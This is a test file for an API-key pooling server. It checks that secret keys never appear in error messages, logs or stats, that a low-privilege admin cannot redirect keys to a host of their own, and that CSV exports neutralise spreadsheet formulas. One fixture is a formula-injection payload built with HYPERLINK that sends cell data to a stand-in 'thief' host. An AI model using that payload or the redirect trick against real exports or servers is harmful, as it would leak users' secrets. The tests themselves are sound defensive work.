/** T9, T12: keys in places where the apipool-server would show them to those who may not read them. */
import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { parseKeys } from '../../src-main/services/keys/key-import.ts'
import { openRig, secretOf } from '../remote/server/rig.ts'

const key = secretOf(1)

test.each([
  ['identifier', { identifier: key }],
  ['alias', { identifier: 'a', alias: `mine: ${key}` }],
  ['description', { identifier: 'a', description: key }],
  ['tags', { identifier: 'a', tags: ['x', key] }],
  ['client_config', { identifier: 'a', client_config: { test_url: `https://x.example/?k=${key}` } }],
  ['client_config', { identifier: 'a', client_config: { params: [{ [key]: 1 }] } }],
])('a new key that is in its own %s is refused, one by one and in an import', async (field, given) => {
  const rig = await openRig()
  const one = await rig.admin('POST', '/keys', { raw_key: key, ...given })
  expect([one.status, one.json.detail[0].loc]).toEqual([422, ['body', field]])
  expect(one.text).not.toContain(key)
  if (field === 'client_config') return
  const keys = [
    { identifier: 'good', raw_key: secretOf(2) },
    { raw_key: key, ...given },
  ]
  const many = await rig.admin('POST', '/keys/import', { keys })
  expect([many.status, many.json.detail[0].loc]).toEqual([422, ['body', field]])
  expect((await rig.admin('GET', '/keys')).json.total).toBe(0)
})

test('a request in the wrong form is not said again with the keys in it', async () => {
  const rig = await openRig()
  for (const keys of [
    [key],
    { a: key },
    key,
    [{ rawkey: key }],
    [{ identifier: 'x', key }],
    [{ raw_key: { v: key } }],
    [[key]],
  ]) {
    for (const route of ['import', 'batch-import']) {
      const { status, text } = await rig.admin('POST', `/keys/${route}`, { keys, client_type: 'x' })
      // The one leaves out what has no key in it.
      expect([route, keys, status === 422 || (status === 200 && route === 'batch-import')]).toEqual([route, keys, true])
      expect(text).not.toContain(key)
    }
  }
})

test('a report keeps no key, neither as a name nor in a method', async () => {
  const rig = await openRig()
  await rig.addPool('main', [1])
  const uuid = '123e4567-e89b-12d3-a456-426614174000'
  const hex = '0123456789abcdef'
  const at = new Date().toISOString()
  const told = [
    [key, 'get'],
    [secretOf(99), 'get'],
    [uuid, 'get'],
    [hex, 'get'],
    ['mine', `GET /x?key=${secretOf(98)}`],
  ].map(([key_identifier, method]) => ({ key_identifier, method, status: 'success', latency: 1, finished_at: at }))
  const { json } = await rig.admin('POST', '/stats/report', { pool_identifier: 'main', client_id: 'a', events: told })
  expect(json.accepted).toBe(5)
  const seen = [
    await rig.admin('GET', '/stats/main/logs'),
    await rig.admin('GET', '/stats/main/usage?group_by=key'),
    await rig.admin('GET', '/stats/main/success-rate'),
  ].map(({ text }) => text)
  for (const secret of [key, secretOf(99), uuid, hex, secretOf(98)]) expect(seen.join('\n')).not.toContain(secret)
  expect(seen[0]).toContain('"method":"GET /x"')
})

test('an admin who may not read keys cannot lead one to an address of their own', async () => {
  const rig = await openRig()
  await rig.admin('POST', '/keys', { identifier: 'free', raw_key: key })
  await rig.addUser('mallory', { role: 'admin' })
  const { access_token: token } = await rig.login('mallory')
  const own = (method: string, path: string, body: object) => rig.call(method, `/api/v1${path}`, { token, body })
  const base_url = rig.upstream.url
  const pool = { identifier: 'evil', name: 'evil', pool_config: { base_url } }
  expect((await own('POST', '/pools', { ...pool, key_identifiers: ['free'] })).status).toBe(403)
  expect((await own('POST', '/pools', pool)).status).toBe(201)
  expect((await own('POST', '/pools/evil/members', { key_identifiers: ['free'] })).status).toBe(403)
  expect((await own('PUT', '/keys/free', { client_config: { base_url } })).status).toBe(200)
  expect((await own('POST', '/pools', { identifier: 'sly', name: 'sly', key_identifiers: ['free'] })).status).toBe(403)
  // Joined while there was no address, and then the address.
  await own('POST', '/pools', { identifier: 'late', name: 'late' })
  await own('PUT', '/keys/free', { client_config: {} })
  await own('POST', '/pools/late/members', { key_identifiers: ['free'] })
  await own('PUT', '/pools/late', { pool_config: { base_url } })
  await own('POST', '/proxy/late/invoke', { attr_path: ['get'], args: ['/x'] })
  expect(rig.upstream.asked).toEqual([])
  // The provider's own address is anybody's to name, and an admin who may read keys can say any.
  const openai = { identifier: 'openai', name: 'openai', client_type: 'openai', key_identifiers: ['free'] }
  expect((await own('POST', '/pools', openai)).status).toBe(201)
  await rig.admin('POST', '/keys', { identifier: 'other', raw_key: secretOf(2) })
  expect((await rig.admin('POST', '/pools/evil/members', { key_identifiers: ['other'] })).status).toBe(200)
})

test('no cell of an exported table is a formula, on one line or on several, and all of it comes back', async () => {
  const rig = await openRig()
  const formulas = ['=HYPERLINK("https://thief.example/?"&C2)', '=1+1\nx', '+1\r\ny', '-1\n', '@SUM(1)\n', '\t=1', '\r=1']
  const keys = formulas.map((description, n) => ({
    identifier: `=k${n}`,
    raw_key: `-raw-${secretOf(n)}`,
    description,
    tags: ['=t'],
  }))
  expect((await rig.admin('POST', '/keys/import', { keys })).json.imported).toBe(formulas.length)
  const { text } = await rig.admin('GET', '/keys/export')
  const rows = Papa.parse<string[]>(text, { newline: '\r\n', skipEmptyLines: true }).data.slice(1)
  expect(rows).toHaveLength(formulas.length)
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  const { candidates } = parseKeys(text)
  const secrets = candidates.map(({ secret }) => secret)
  expect(new Set(secrets)).toEqual(new Set(keys.map(({ raw_key }) => raw_key)))
})
